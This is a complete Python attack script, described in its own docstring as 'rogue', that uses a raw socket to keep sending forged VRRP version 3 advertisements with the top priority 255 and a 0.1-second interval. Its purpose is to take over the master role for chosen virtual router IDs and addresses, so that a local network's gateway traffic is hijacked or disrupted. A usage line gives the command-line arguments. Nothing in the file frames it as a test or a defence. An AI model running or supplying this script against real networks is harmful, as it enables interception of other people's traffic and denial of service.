"""Says all the time that it is the VRRP master of the highest priority: python3 rogue.py SECONDS VRIDS ADDRESSES RECEIVERS."""

import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def advert(vrid: int, address: str, sender: str, receiver: str) -> bytes:
    """An advert of VRRP version 3 with priority 255 and an interval of 0.1 s."""
    body = [0x31, vrid, 255, 1, 10]
    whole = struct.pack("!BBBBHH4s", *body, 0, socket.inet_aton(address))
    pseudo = struct.pack("!4s4sBBH", socket.inet_aton(sender), socket.inet_aton(receiver), 0, 112, len(whole))
    return struct.pack("!BBBBHH4s", *body, checksum(pseudo + whole), socket.inet_aton(address))


def main(seconds: str, vrids: str, addresses: str, receivers: str) -> None:
    stranger = socket.socket(socket.AF_INET, socket.SOCK_RAW, 112)
    stranger.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 255)
    stranger.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        for receiver in receivers.split():
            stranger.connect((receiver, 0))
            sender = stranger.getsockname()[0]
            for vrid, address in zip(vrids.split(), addresses.split()):
                stranger.send(advert(int(vrid), address, sender, receiver))
        time.sleep(0.01)


if __name__ == "__main__":
    main(*sys.argv[1:])
